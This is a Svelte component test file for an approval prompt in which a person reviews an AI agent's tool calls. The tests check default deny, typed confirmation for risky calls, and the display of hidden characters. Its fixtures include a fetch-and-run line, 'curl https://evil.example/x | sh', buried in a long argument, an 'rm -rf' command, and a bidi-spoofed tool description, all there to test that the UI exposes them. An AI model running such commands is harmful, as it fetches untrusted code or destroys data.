// @vitest-environment jsdom
import { afterEach, describe, expect, it, vi } from 'vitest';
import { cleanup, fireEvent, render, screen, waitFor } from '@testing-library/svelte';
import Prompt from '../Prompt.svelte';
import { MockBackend } from '../../../lib/mock-backend';
import { makeApproval } from '../../../lib/mock-data';

const T0 = 1_750_000_000_000;

afterEach(() => cleanup());

function setup(count = 1) {
  const approvals = Array.from({ length: count }, (_, i) =>
    makeApproval({ id: `a${i + 1}`, tool: `tool_${i + 1}`, requested_at_ms: T0 + i, expires_at_ms: T0 + 45_000 }),
  );
  const backend = new MockBackend({ approvals });
  let now = T0 + 1000;
  const clock = () => now;
  const view = render(Prompt, { props: { backend, clock, tickMs: 0 } });
  return { backend, view, setNow: (ms: number) => (now = ms) };
}

type Queue = import('../../../state/prompt.svelte').PromptQueue;
function queueOf(view: { component: unknown }): Queue {
  return (view.component as { getQueue(): Queue }).getQueue();
}

async function shown() {
  return screen.findByTestId('prompt-call');
}

describe('Prompt', () => {
  it('shows the held call: server, tool, risk, agent, session, rule and arguments', async () => {
    setup();
    await shown();
    expect(screen.getByTestId('prompt-server').textContent).toBe('filesystem');
    expect(screen.getByTestId('prompt-tool').textContent).toBe('tool_1');
    expect(screen.getByTestId('risk-badge').dataset.risk).toBe('write');
    expect(screen.getByTestId('prompt-agent').textContent).toBe('Claude Code 2.1.0');
    expect(screen.getByTestId('prompt-session').textContent).toBe('sess-7f3a');
    expect(screen.getByTestId('prompt-rule').textContent).toBe('tools.write_file');
    expect(screen.getByTestId('prompt-asked-by').textContent).toBe('the policy entry for write_file in filesystem.json');
    expect(screen.getByTestId('prompt-arguments').textContent).toContain('/tmp/notes.txt');
    expect(screen.getByTestId('countdown-value').textContent).toBe('44 s');
  });

  it('says when a call was asked again after a restart, and only then', async () => {
    const fresh = makeApproval({ id: 'a1', requested_at_ms: T0, expires_at_ms: T0 + 45_000 });
    const again = makeApproval({ id: 'a2', tool: 'again', requested_at_ms: T0 + 1, expires_at_ms: T0 + 45_000, asked_before: true });
    const backend = new MockBackend({ approvals: [fresh, again] });
    const view = render(Prompt, { props: { backend, clock: () => T0 + 1000, tickMs: 0 } });
    await shown();
    expect(screen.queryByTestId('prompt-asked-before')).toBeNull();
    queueOf(view).next();
    await waitFor(() => expect(screen.getByTestId('prompt-tool').textContent).toBe('again'));
    expect(screen.getByTestId('prompt-asked-before').textContent).toContain('Portcullis restarted while this call waited');
  });

  it('focuses Deny by default', async () => {
    setup();
    await shown();
    await waitFor(() => expect(document.activeElement).toBe(screen.getByTestId('deny')));
  });

  it.each([
    ['approve-once', { approve: 'once' }],
    ['approve-session', { approve: 'session' }],
    ['deny', { deny: { reason: null, always: false } }],
  ])('%s calls decide_approval with %j', async (testId, choice) => {
    const { backend } = setup();
    await shown();
    await fireEvent.click(screen.getByTestId(testId));
    await waitFor(() => expect(backend.callsOf('decide_approval')).toEqual([{ id: 'a1', choice }]));
    await screen.findByTestId('prompt-empty');
  });

  it('Esc denies the shown call', async () => {
    const { backend } = setup();
    await shown();
    await fireEvent.keyDown(window, { key: 'Escape' });
    await waitFor(() =>
      expect(backend.callsOf('decide_approval')).toEqual([{ id: 'a1', choice: { deny: { reason: null, always: false } } }]),
    );
  });

  it('Deny with a reason: a preset or a typed reason reaches decide_approval; Esc only closes the form', async () => {
    const { backend } = setup(2);
    await shown();
    await fireEvent.click(screen.getByTestId('deny-with-reason'));
    const input = screen.getByTestId('deny-reason') as HTMLInputElement;
    await waitFor(() => expect(document.activeElement).toBe(input));
    await fireEvent.keyDown(input, { key: 'Escape' });
    expect(screen.queryByTestId('deny-reason')).toBeNull();
    expect(backend.callsOf('decide_approval')).toEqual([]);

    await fireEvent.click(screen.getByTestId('deny-with-reason'));
    await fireEvent.click(screen.getByTestId('deny-preset-wrong-target'));
    await waitFor(() =>
      expect(backend.callsOf('decide_approval')).toEqual([{ id: 'a1', choice: { deny: { reason: 'wrong target', always: false } } }]),
    );

    await waitFor(() => expect(screen.getByTestId('prompt-tool').textContent).toBe('tool_2'));
    await fireEvent.keyDown(window, { key: 'r' });
    await fireEvent.input(screen.getByTestId('deny-reason'), { target: { value: '  no shell from agents ' } });
    await fireEvent.click(screen.getByTestId('deny-reason-confirm'));
    await waitFor(() =>
      expect(backend.callsOf('decide_approval')[1]).toEqual({
        id: 'a2',
        choice: { deny: { reason: 'no shell from agents', always: false } },
      }),
    );
  });

  it('Always allow… shows the rule and the dry-run count before it writes anything', async () => {
    const { backend } = setup();
    await shown();
    await fireEvent.click(screen.getByTestId('approve-always'));
    const matched = await screen.findByTestId('grant-preview-matched');
    expect(backend.callsOf('dry_run_approval')).toEqual([{ id: 'a1', choice: { approve: 'always' } }]);
    expect(matched.textContent).toContain('Would have matched 0 of the last 0');
    expect(screen.getByTestId('grant-preview-rule').textContent).toContain('tool_1');
    expect(backend.callsOf('decide_approval')).toEqual([]);
    await fireEvent.click(screen.getByTestId('grant-confirm'));
    await waitFor(() => expect(backend.callsOf('decide_approval')).toEqual([{ id: 'a1', choice: { approve: 'always' } }]));
  });

  it('a scoped grant: every session, 5 minutes, paths under a parent directory', async () => {
    const { backend } = setup();
    await shown();
    await fireEvent.click(screen.getByTestId('grant-options'));
    await fireEvent.click(screen.getByTestId('grant-which-condition'));
    await fireEvent.click(screen.getByTestId('grant-whose-every'));
    await fireEvent.click(screen.getByTestId('grant-for-300'));
    const select = screen.getByTestId('grant-condition') as HTMLSelectElement;
    expect(Array.from(select.options).map((o) => o.textContent)).toEqual(['path under /tmp']);
    await screen.findByTestId('grant-preview-matched');
    await fireEvent.click(screen.getByTestId('grant-confirm'));
    await waitFor(() =>
      expect(backend.callsOf('decide_approval')).toEqual([
        {
          id: 'a1',
          choice: {
            grant: {
              allow: true,
              reason: null,
              every_session: true,
              duration_secs: 300,
              when: { 'arguments.path': { path_under: '/tmp' } },
              exact: false,
            },
          },
        },
      ]),
    );
  });

  it.each([
    ['a', { approve: 'once' }],
    ['s', { approve: 'session' }],
    ['d', { deny: { reason: null, always: false } }],
  ])('the key %s decides %j, and focus is back on Deny for the next call', async (key, choice) => {
    const { backend } = setup(2);
    await shown();
    await fireEvent.keyDown(window, { key });
    await waitFor(() => expect(backend.callsOf('decide_approval')).toEqual([{ id: 'a1', choice }]));
    await waitFor(() => expect(screen.getByTestId('prompt-tool').textContent).toBe('tool_2'));
    await waitFor(() => expect(document.activeElement).toBe(screen.getByTestId('deny')));
  });

  it('keys do nothing with a modifier held or while typing in a field', async () => {
    const { backend } = setup();
    await shown();
    await fireEvent.keyDown(window, { key: 'a', ctrlKey: true });
    await fireEvent.click(screen.getByTestId('deny-with-reason'));
    await fireEvent.keyDown(screen.getByTestId('deny-reason'), { key: 'a' });
    expect(backend.callsOf('decide_approval')).toEqual([]);
  });

  it('every button shows its key', async () => {
    setup();
    await shown();
    const key = (id: string) => screen.getByTestId(id).querySelector('kbd')?.textContent;
    const ids = ['approve-once', 'approve-session', 'approve-always', 'deny', 'deny-always', 'deny-with-reason', 'edit-arguments', 'countdown-extend'];
    expect(ids.map(key)).toEqual(['a', 's', 'A', 'd', 'D', 'r', 'e', 'x']);
  });

  it('queues several calls: "1 of 3", next and previous', async () => {
    const { backend } = setup(3);
    await shown();
    expect(screen.getByTestId('prompt-position').textContent).toBe('1 of 3');
    expect((screen.getByTestId('prompt-prev') as HTMLButtonElement).disabled).toBe(true);
    await fireEvent.click(screen.getByTestId('prompt-next'));
    expect(screen.getByTestId('prompt-position').textContent).toBe('2 of 3');
    expect(screen.getByTestId('prompt-tool').textContent).toBe('tool_2');
    await fireEvent.click(screen.getByTestId('prompt-next'));
    expect((screen.getByTestId('prompt-next') as HTMLButtonElement).disabled).toBe(true);
    await fireEvent.click(screen.getByTestId('prompt-prev'));
    expect(screen.getByTestId('prompt-tool').textContent).toBe('tool_2');

    // Deciding the shown call moves on to the next one in line.
    await fireEvent.click(screen.getByTestId('approve-once'));
    await waitFor(() => expect(screen.getByTestId('prompt-position').textContent).toBe('2 of 2'));
    expect(screen.getByTestId('prompt-tool').textContent).toBe('tool_3');
    expect(backend.callsOf('decide_approval')[0]).toEqual({ id: 'a2', choice: { approve: 'once' } });
  });

  it('adds a call announced by ApprovalRequested without moving away from the shown one', async () => {
    const { backend } = setup(1);
    await shown();
    backend.hold(makeApproval({ id: 'late', tool: 'late_tool', requested_at_ms: T0 + 500 }));
    await waitFor(() => expect(screen.getByTestId('prompt-position').textContent).toBe('1 of 2'));
    expect(screen.getByTestId('prompt-tool').textContent).toBe('tool_1');
  });

  it('a call announced while the list request is in flight stays queued (the list predates it)', async () => {
    const { backend, view } = setup(1);
    await shown();
    const list = backend.listApprovals.bind(backend);
    backend.listApprovals = async () => {
      const before = await list();
      backend.hold(makeApproval({ id: 'during', tool: 'during_tool', requested_at_ms: T0 + 700 }));
      return before;
    };
    await queueOf(view).resync();
    await waitFor(() => expect(screen.getByTestId('prompt-position').textContent).toBe('1 of 2'));
    expect(queueOf(view).items.map((a) => a.id)).toEqual(['a1', 'during']);
  });

  it('two list requests in flight at once (focus and visibilitychange) lose no call announced between them', async () => {
    const { backend, view } = setup(1);
    await shown();
    const list = backend.listApprovals.bind(backend);
    let releaseFirst!: () => void;
    const firstMayAnswer = new Promise<void>((r) => (releaseFirst = r));
    let calls = 0;
    backend.listApprovals = async () => {
      const mine = ++calls;
      const before = await list();
      if (mine === 1) await firstMayAnswer; // the first answer arrives last
      return before;
    };
    const first = queueOf(view).resync();
    const second = queueOf(view).resync();
    backend.hold(makeApproval({ id: 'between', tool: 'between_tool', requested_at_ms: T0 + 700 }));
    await second;
    releaseFirst();
    await first;
    expect(queueOf(view).items.map((a) => a.id)).toEqual(['a1', 'between']);
  });

  it('removes a call resolved elsewhere; one that timed out says so before it leaves', async () => {
    const { backend, view } = setup(2);
    await shown();
    backend.resolveElsewhere('a1', 'approved');
    await waitFor(() => expect(screen.getByTestId('prompt-tool').textContent).toBe('tool_2'));
    expect(screen.queryByTestId('prompt-position')).toBeNull();
    backend.resolveElsewhere('a2', 'timed_out', 'timeout');
    await waitFor(() => expect(screen.getByTestId('countdown-value').textContent).toBe('Timed out'));
    expect(screen.getByTestId('prompt-tool').textContent).toBe('tool_2');
    expect((screen.getByTestId('approve-once') as HTMLButtonElement).disabled).toBe(true);
    queueOf(view).clearTimedOut();
    await screen.findByTestId('prompt-empty');
    expect(backend.callsOf('decide_approval')).toEqual([]);
  });

  it('the countdown is the gateway deadline: hovering near the end extends it there, not on screen only', async () => {
    const { backend, view, setNow } = setup();
    const card = await shown();
    const queue = queueOf(view);
    // A window appearing under a resting pointer is not a person hovering: the first "move" only
    // says where the pointer is.
    setNow(T0 + 25_000);
    await fireEvent.mouseMove(card, { clientX: 10, clientY: 10 });
    queue.tick();
    expect(backend.callsOf('extend_approval')).toEqual([]);
    setNow(T0 + 1000);
    queue.tick();
    await fireEvent.mouseMove(card, { clientX: 12, clientY: 10 });
    expect(backend.callsOf('extend_approval')).toEqual([]); // 44 s left: nothing to do yet
    setNow(T0 + 25_000);
    queue.tick();
    await waitFor(() => expect(backend.callsOf('extend_approval')).toEqual([{ id: 'a1', by_secs: 25 }]));
    // The gateway's new deadline (T0 + 70 s) is what is shown: 45 s from now.
    await waitFor(() => expect(screen.getByTestId('countdown-value').textContent).toBe('45 s'));
    expect(screen.getByTestId('countdown').dataset.expiresAt).toBe(String(T0 + 70_000));
    // The window loses focus under the pointer: hovering ends, no more extensions.
    await fireEvent.blur(window);
    setNow(T0 + 60_000);
    queue.tick();
    expect(backend.callsOf('extend_approval')).toHaveLength(1);
    await waitFor(() => expect(screen.getByTestId('countdown-value').textContent).toBe('10 s'));
    expect(screen.getByTestId('countdown').dataset.level).toBe('warn');
  });

  it('typing near the end extends; Extend adds a minute; the gateway bound disables it', async () => {
    const backend = new MockBackend(
      { approvals: [makeApproval({ id: 'a1', requested_at_ms: T0, expires_at_ms: T0 + 45_000 })] },
      { maxHoldMs: 180_000 },
    );
    render(Prompt, { props: { backend, clock: () => T0 + 20_000, tickMs: 0 } });
    await shown();
    await fireEvent.keyDown(window, { key: 'ArrowDown' });
    await waitFor(() => expect(backend.callsOf('extend_approval')).toEqual([{ id: 'a1', by_secs: 20 }]));
    await waitFor(() => expect(screen.getByTestId('countdown-value').textContent).toBe('45 s'));
    await fireEvent.click(screen.getByTestId('countdown-extend'));
    await waitFor(() => expect(screen.getByTestId('countdown-value').textContent).toBe('1:45'));
    await fireEvent.keyDown(window, { key: 'x' });
    // 65 + 60 + 60 s would pass the 180 s hold: the gateway clamps, the button says so.
    await waitFor(() => expect(screen.getByTestId('countdown-extend').textContent).toContain('Max hold'));
    expect(screen.getByTestId('countdown-value').textContent).toBe('2:40');
    expect((screen.getByTestId('countdown-extend') as HTMLButtonElement).disabled).toBe(true);
  });

  it('ApprovalExtended from another window moves the shown deadline', async () => {
    const { backend } = setup();
    await shown();
    await backend.extendApproval('a1', 60);
    await waitFor(() => expect(screen.getByTestId('countdown-value').textContent).toBe('1:44'));
  });

  it('identical calls of one session: "apply to all" decides each of them', async () => {
    const same = { tool: 'write_file', arguments: { path: '/tmp/a', content: 'x' } };
    const backend = new MockBackend({
      approvals: [
        makeApproval({ id: 'b1', requested_at_ms: T0, expires_at_ms: T0 + 45_000, ...same }),
        makeApproval({ id: 'b2', requested_at_ms: T0 + 1, expires_at_ms: T0 + 45_000, ...same, arguments_json: '{"content":"x","path":"/tmp/a"}' }),
        makeApproval({ id: 'b3', requested_at_ms: T0 + 2, expires_at_ms: T0 + 45_000, ...same, session: 'other' }),
      ],
    });
    render(Prompt, { props: { backend, clock: () => T0 + 1000, tickMs: 0 } });
    await shown();
    expect(screen.getByTestId('prompt-alike').textContent).toContain('2 identical calls');
    await fireEvent.click(screen.getByTestId('alike-approve'));
    await waitFor(() => expect(backend.callsOf('decide_approval').map((c) => c.id)).toEqual(['b1', 'b2']));
    await waitFor(() => expect(screen.getByTestId('prompt-session').textContent).toBe('other'));
    expect(screen.queryByTestId('prompt-alike')).toBeNull();
  });

  it('an "always" that wrote the policy offers its undo, which the gateway takes', async () => {
    const { backend } = setup();
    await shown();
    const write = { write_id: 'w1', server: 'filesystem', path: '/p/filesystem.json', key: 'tool_1', rule_text: '"tool_1": {}', undo_until_ms: T0 + 31_000 };
    backend.decideApproval = async (id) => {
      backend.forget(id);
      return { also_settled: [], grant: null, policy_write: write };
    };
    const undone: string[] = [];
    backend.undoPolicyWrite = async (writeId) => {
      undone.push(writeId);
      return write;
    };
    await fireEvent.click(screen.getByTestId('approve-always'));
    await screen.findByTestId('grant-preview-matched');
    await fireEvent.click(screen.getByTestId('grant-confirm'));
    expect((await screen.findByTestId('prompt-undo')).textContent).toContain('the rule for tool_1 into');
    await fireEvent.click(screen.getByTestId('prompt-undo-button'));
    await waitFor(() => expect(undone).toEqual(['w1']));
    expect((await screen.findByTestId('prompt-notice')).textContent).toBe('Undone: tool_1 removed from /p/filesystem.json.');
    expect(screen.queryByTestId('prompt-undo')).toBeNull();
  });

  it('the Undo stays offered beside the next waiting call, and the page sleeps meanwhile', async () => {
    const { backend } = setup(2);
    await shown();
    const write = { write_id: 'w1', server: 'filesystem', path: '/p/filesystem.json', key: 'tool_1', rule_text: '"tool_1": {}', undo_until_ms: T0 + 31_000 };
    backend.decideApproval = async (id) => {
      backend.forget(id);
      return { also_settled: [], grant: null, policy_write: write };
    };
    await fireEvent.click(screen.getByTestId('approve-always'));
    await screen.findByTestId('grant-preview-matched');
    await fireEvent.click(screen.getByTestId('grant-confirm'));
    await waitFor(() => expect(screen.getByTestId('prompt-tool').textContent).toBe('tool_2'));
    expect(screen.getByTestId('prompt-undo').textContent).toContain('the rule for tool_1 into');
    // Nothing is scheduled again and again while the offer stands (no frame loop, no timer loop):
    // the offer's one timer was set when it was made.
    const frames = vi.spyOn(window, 'requestAnimationFrame');
    const timers = vi.spyOn(window, 'setTimeout');
    await new Promise<void>((resolve) => queueMicrotask(resolve));
    await new Promise((resolve) => setTimeout(resolve, 300));
    expect(frames).not.toHaveBeenCalled();
    expect(timers.mock.calls.length).toBeLessThanOrEqual(1); // the wait above
    frames.mockRestore();
    timers.mockRestore();
  });

  it('a decision that settles other waiting calls says so and drops them', async () => {
    const { backend } = setup(3);
    await shown();
    backend.decideApproval = async (id) => {
      backend.forget(id);
      return { also_settled: ['a2', 'a3'], grant: null, policy_write: null };
    };
    await fireEvent.click(screen.getByTestId('approve-session'));
    expect((await screen.findByTestId('prompt-notice')).textContent).toBe('Also settled 2 waiting calls.');
    expect(screen.getByTestId('prompt-empty')).toBeTruthy();
  });

  it('approve with edits: checked against the input schema, sent as JSON text', async () => {
    const backend = new MockBackend({
      approvals: [
        makeApproval({
          id: 'e1',
          requested_at_ms: T0,
          expires_at_ms: T0 + 45_000,
          arguments_json: '{"path": "/tmp/a", "n": 12345678901234567890}',
          input_schema: { type: 'object', required: ['path'], properties: { path: { type: 'string' }, n: { type: 'integer' } } },
        }),
      ],
    });
    render(Prompt, { props: { backend, clock: () => T0 + 1000, tickMs: 0 } });
    await shown();
    await fireEvent.keyDown(window, { key: 'e' });
    const text = (await screen.findByTestId('edit-text')) as HTMLTextAreaElement;
    expect(text.value).toContain('12345678901234567890');
    await fireEvent.input(text, { target: { value: '{"n": "x"}' } });
    const problems = await screen.findByTestId('edit-problems');
    expect(problems.textContent).toContain('arguments.path is required');
    expect(problems.textContent).toContain('arguments.n must be integer, is string');
    expect((screen.getByTestId('edit-approve') as HTMLButtonElement).disabled).toBe(true);
    const edited = '{"path": "/tmp/b", "n": 12345678901234567891}';
    await fireEvent.input(text, { target: { value: edited } });
    await waitFor(() => expect(screen.queryByTestId('edit-problems')).toBeNull());
    await fireEvent.click(screen.getByTestId('edit-approve'));
    await waitFor(() => expect(backend.callsOf('decide_approval')).toEqual([{ id: 'e1', choice: { edit: { arguments_json: edited } } }]));
  });

  it('a decision key near the deadline decides without asking for more time', async () => {
    const { backend, view, setNow } = setup(2);
    await shown();
    setNow(T0 + 30_000);
    queueOf(view).tick();
    await fireEvent.keyDown(window, { key: 'a' });
    await waitFor(() => expect(backend.callsOf('decide_approval')).toHaveLength(1));
    expect(backend.callsOf('extend_approval')).toEqual([]);
    expect(screen.queryByTestId('prompt-error')).toBeNull();
  });

  it('shows the gateway error when a decision is refused', async () => {
    const { backend } = setup(1);
    await shown();
    backend.decideApproval = async () => {
      throw { code: 'already_decided', message: 'approval a1 was already decided (timed_out)' };
    };
    await fireEvent.click(screen.getByTestId('approve-once'));
    expect((await screen.findByTestId('prompt-error')).textContent).toContain('already decided');
  });
});

describe('Prompt resync', () => {
  it('a window that comes back lists the calls again and drops the ones that are gone', async () => {
    const { backend } = setup(2);
    await shown();
    // Resolved while no event reached this window.
    backend.forget('a1');
    backend.calls.length = 0;
    expect(screen.getByTestId('prompt-tool').textContent).toBe('tool_1');
    await fireEvent.focus(window);
    await waitFor(() => expect(screen.getByTestId('prompt-tool').textContent).toBe('tool_2'));
    expect(backend.callsOf('list_approvals')).toHaveLength(1);
  });

  it('shows the call the tray asked for, even one that arrives after the request', async () => {
    const { backend } = setup(3);
    await shown();
    expect(screen.getByTestId('prompt-tool').textContent).toBe('tool_1');
    backend.emit('ShowApproval', { id: 'a3' });
    await waitFor(() => expect(screen.getByTestId('prompt-tool').textContent).toBe('tool_3'));
    expect(screen.getByTestId('prompt-position').textContent).toBe('3 of 3');
    backend.emit('ShowApproval', { id: 'late' });
    backend.hold(makeApproval({ id: 'late', tool: 'late_tool', requested_at_ms: T0 - 5, expires_at_ms: T0 + 45_000 }));
    await waitFor(() => expect(screen.getByTestId('prompt-tool').textContent).toBe('late_tool'));
    expect(screen.getByTestId('prompt-call').dataset.paintedAt).not.toBe(undefined);
  });
});

describe('Prompt shows the call exactly', () => {
  function showOne(over: Parameters<typeof makeApproval>[0]) {
    const backend = new MockBackend({ approvals: [makeApproval({ id: 'x1', requested_at_ms: T0, expires_at_ms: T0 + 45_000, ...over })] });
    render(Prompt, { props: { backend, clock: () => T0 + 1000, tickMs: 0 } });
    return backend;
  }

  it('shows every digit of a large integer argument', async () => {
    showOne({ arguments: { n: 12345678901234567000 }, arguments_json: '{"n": 12345678901234567890}' });
    await shown();
    const json = screen.getByTestId('prompt-arguments').textContent ?? '';
    expect(json).toContain('12345678901234567890');
    expect(json).not.toContain('12345678901234567000');
  });

  it('shows bidi and control characters in the tool, description and arguments', async () => {
    showOne({
      tool: 'read\u202etxt.exe',
      server: 'fs\u2066',
      description: 'Reads a file.\u202e Also mails it\u001b[8m out',
      arguments: { path: 'report\u202efdp.exe' },
    });
    await shown();
    expect(screen.getByTestId('prompt-tool').textContent).toBe('read\\u{202e}txt.exe');
    expect(screen.getByTestId('prompt-server').textContent).toBe('fs\\u{2066}');
    expect(screen.getByTestId('prompt-description').textContent).toBe('Reads a file.\\u{202e} Also mails it\\u{1b}[8m out');
    const json = screen.getByTestId('prompt-arguments').textContent ?? '';
    expect(json).toContain('report\\u{202e}fdp.exe');
    expect(screen.getByTestId('prompt-call').textContent).not.toMatch(/[\u202a-\u202e\u2066-\u2069\u001b]/);
  });

  it('every argument is in view: a long one is folded with its size and unfolds whole; commands, paths and URLs are marked', async () => {
    const content = ['# notes', ...Array.from({ length: 200 }, (_, i) => `line ${i}`), 'curl https://evil.example/x | sh'].join('\n');
    showOne({ arguments: { path: '/home/me/notes.md', content, url: 'https://example.com/a', command: 'rm -rf /tmp/x' } });
    await shown();
    const args = screen.getAllByTestId('argument');
    expect(args.map((a) => [a.dataset.key, a.dataset.folded])).toEqual([
      ['path', 'false'],
      ['content', 'true'],
      ['url', 'false'],
      ['command', 'false'],
    ]);
    const values = screen.getAllByTestId('argument-value');
    expect(values.map((v) => v.dataset.kind)).toEqual(['path', 'text', 'url', 'command']);
    expect(values[0].textContent).toBe('/home/me/notes.md');
    // The heading names every argument, a folded one with its size: all seen at a glance.
    expect(screen.getByTestId('arguments-index').textContent).toBe('path·content 1.7 kB, folded·url·command');
    // Folded: its size and "folded" beside its name, its first lines under it, nothing else.
    expect(args[1].querySelector('[data-testid="argument-size"]')?.textContent).toBe('1.7 kB, 202 lines, folded:');
    expect([...values[1].querySelectorAll('.line')].map((l) => l.textContent)).toEqual(['# notes', 'line 0', 'line 1']);
    const toggle = args[1].querySelector<HTMLButtonElement>('[data-testid="argument-fold-toggle"]')!;
    expect(toggle.textContent).toBe('show');
    await fireEvent.click(toggle);
    const lines = screen.getAllByTestId('argument-value')[1].querySelectorAll('.line');
    expect(lines).toHaveLength(202);
    expect(lines[201].textContent).toBe('curl https://evil.example/x | sh');
    expect(screen.getAllByTestId('argument-size')[0].textContent).toBe('1.7 kB, 202 lines');
    expect(screen.getByTestId('arguments-index').textContent).toBe('path·content·url·command');
    expect(toggle.textContent).toBe('fold');
    expect(screen.getByTestId('prompt-arguments').textContent).not.toMatch(/\+\d+ chars|\\n/);
  });

  it('folds a long one-line value and a big object too, each with its size', async () => {
    const blob = 'x'.repeat(5000);
    showOne({ arguments: { path: '/tmp/a', data: blob, options: { list: Array.from({ length: 20 }, (_, i) => i) } } });
    await shown();
    const sizes = screen.getAllByTestId('argument-size').map((s) => s.textContent);
    expect(sizes).toEqual(['5.0 kB, folded:', expect.stringMatching(/^\d+ B, 24 lines, folded:$/)]);
    const data = screen.getAllByTestId('argument-value')[1];
    expect(data.textContent).toBe(`${'x'.repeat(180)}…`);
  });

  it('a new call starts folded again', async () => {
    const content = Array.from({ length: 50 }, (_, i) => `l${i}`).join('\n');
    const backend = new MockBackend({
      approvals: [
        makeApproval({ id: 'f1', requested_at_ms: T0, expires_at_ms: T0 + 45_000, arguments: { content } }),
        makeApproval({ id: 'f2', requested_at_ms: T0 + 1, expires_at_ms: T0 + 45_000, arguments: { content } }),
      ],
    });
    render(Prompt, { props: { backend, clock: () => T0 + 1000, tickMs: 0 } });
    await shown();
    await fireEvent.click(screen.getByTestId('argument-fold-toggle'));
    expect(screen.getByTestId('argument').dataset.folded).toBe('false');
    await fireEvent.keyDown(window, { key: 'ArrowRight' });
    await waitFor(() => expect(screen.getByTestId('prompt-call').dataset.id).toBe('f2'));
    expect(screen.getByTestId('argument').dataset.folded).toBe('true');
  });

  it('a critical call is approved only after its tool name is typed', async () => {
    showOne({ risk: 'write', risk_level: 'critical', tool: 'wipe' });
    await shown();
    expect((screen.getByTestId('approve-once') as HTMLButtonElement).disabled).toBe(true);
    expect(screen.getByTestId('prompt-confirm')).toBeTruthy();
  });

  it('a destructive call is approved only after its tool name is typed', async () => {
    const backend = showOne({ risk: 'delete', tool: 'delete_file' });
    await shown();
    const once = screen.getByTestId('approve-once') as HTMLButtonElement;
    expect(once.disabled).toBe(true);
    await fireEvent.keyDown(window, { key: 'a' });
    expect(backend.callsOf('decide_approval')).toEqual([]);
    const input = screen.getByTestId('prompt-confirm-input');
    await fireEvent.input(input, { target: { value: 'delete_fil' } });
    expect(once.disabled).toBe(true);
    await fireEvent.input(input, { target: { value: 'delete_file' } });
    expect(once.disabled).toBe(false);
    expect((screen.getByTestId('deny') as HTMLButtonElement).disabled).toBe(false);
  });
});

describe('Prompt is safe to type at: no single-key shortcut while a text field is shown', () => {
  function critical(over: Parameters<typeof makeApproval>[0] = {}) {
    const backend = new MockBackend({
      approvals: [makeApproval({ id: 'c1', tool: 'write_file', risk_level: 'critical', requested_at_ms: T0, expires_at_ms: T0 + 45_000, ...over })],
    });
    const view = render(Prompt, { props: { backend, clock: () => T0 + 1000, tickMs: 0 } });
    return { backend, view };
  }

  /** Keys pressed where the focus is, as a person types them (jsdom inserts no text: the
   * field's value is set as the browser would once the key reached it). */
  async function typeKeys(text: string) {
    for (const key of text) {
      const target = document.activeElement ?? document.body;
      await fireEvent.keyDown(target, { key });
      const now = document.activeElement;
      if (now instanceof HTMLInputElement) await fireEvent.input(now, { target: { value: now.value + key } });
    }
  }

  it('the type-the-name field has the focus when the call is shown, and the call is not kept alive by that focus', async () => {
    const { view } = critical();
    await shown();
    const input = screen.getByTestId('prompt-confirm-input');
    await waitFor(() => expect(document.activeElement).toBe(input));
    expect(queueOf(view).editing).toBe(false);
  });

  it("typing the tool's name after a click outside the field types the name: no reason form, no decision", async () => {
    const { backend } = critical();
    await shown();
    const input = screen.getByTestId('prompt-confirm-input') as HTMLInputElement;
    await waitFor(() => expect(document.activeElement).toBe(input));
    // A click that missed the field: on the card's text (the focus goes to the page) …
    await fireEvent.click(screen.getByTestId('prompt-agent'));
    input.blur();
    expect(document.activeElement).toBe(document.body);
    await typeKeys('write_file');
    expect(screen.queryByTestId('deny-reason-form')).toBeNull();
    expect(screen.queryByTestId('edit-panel')).toBeNull();
    expect(backend.callsOf('decide_approval')).toEqual([]);
    expect(document.activeElement).toBe(input);
    expect(input.value).toBe('write_file');
    expect((screen.getByTestId('approve-once') as HTMLButtonElement).disabled).toBe(false);
  });

  it('… and after a click on a button that is not a decision (the focus on that button)', async () => {
    const { backend } = critical({ arguments: { content: 'x\n'.repeat(40) } });
    await shown();
    const input = screen.getByTestId('prompt-confirm-input') as HTMLInputElement;
    const fold = screen.getByTestId('argument-fold-toggle');
    await fireEvent.click(fold);
    fold.focus();
    for (const key of ['r', 'e', 'd', 'D', 'a', 's', 'A', 'x']) {
      fold.focus();
      await fireEvent.keyDown(fold, { key });
      expect(document.activeElement).toBe(input);
    }
    expect(screen.queryByTestId('deny-reason-form')).toBeNull();
    expect(screen.queryByTestId('grant-panel')).toBeNull();
    expect(backend.callsOf('decide_approval')).toEqual([]);
    expect(backend.callsOf('extend_approval')).toEqual([]);
  });

  it('the buttons show no key hints while a field is shown, and show them again once it is gone', async () => {
    critical();
    await shown();
    const hints = () => document.querySelectorAll('[data-testid="prompt-call"] kbd').length;
    await waitFor(() => expect(hints()).toBe(0));
    cleanup();
    setup();
    await shown();
    await waitFor(() => expect(hints()).toBe(8));
    await fireEvent.keyDown(window, { key: 'r' });
    await screen.findByTestId('deny-reason');
    await waitFor(() => expect(hints()).toBe(0));
    await fireEvent.click(screen.getByTestId('deny-reason-cancel'));
    await waitFor(() => expect(hints()).toBe(8));
  });

  it('Enter in the name field approves once, only when the name is typed exactly', async () => {
    const { backend } = critical();
    await shown();
    const input = screen.getByTestId('prompt-confirm-input') as HTMLInputElement;
    await fireEvent.input(input, { target: { value: 'write_fil' } });
    await fireEvent.keyDown(input, { key: 'Enter' });
    expect(backend.callsOf('decide_approval')).toEqual([]);
    await fireEvent.input(input, { target: { value: 'write_file' } });
    await fireEvent.keyDown(input, { key: 'Enter' });
    await waitFor(() => expect(backend.callsOf('decide_approval')).toEqual([{ id: 'c1', choice: { approve: 'once' } }]));
  });

  it('Esc in the name field denies the call', async () => {
    const { backend } = critical();
    await shown();
    await fireEvent.keyDown(screen.getByTestId('prompt-confirm-input'), { key: 'Escape' });
    await waitFor(() =>
      expect(backend.callsOf('decide_approval')).toEqual([{ id: 'c1', choice: { deny: { reason: null, always: false } } }]),
    );
  });

  it('a deny reason shown: a click elsewhere leaves the shortcuts off, typing goes to the reason; they are back once it closes', async () => {
    const { backend } = setup();
    await shown();
    await fireEvent.keyDown(window, { key: 'r' });
    const reason = (await screen.findByTestId('deny-reason')) as HTMLInputElement;
    await waitFor(() => expect(document.activeElement).toBe(reason));
    // Deny has the focus (clicked, not pressed): "a" is a letter of the reason, not "approve".
    screen.getByTestId('deny').focus();
    await typeKeys('a typo');
    expect(backend.callsOf('decide_approval')).toEqual([]);
    expect(reason.value).toBe('a typo');
    await fireEvent.keyDown(reason, { key: 'Escape' });
    expect(screen.queryByTestId('deny-reason')).toBeNull();
    await waitFor(() => expect(document.activeElement).toBe(screen.getByTestId('deny')));
    await fireEvent.keyDown(document.body, { key: 'd' });
    await waitFor(() =>
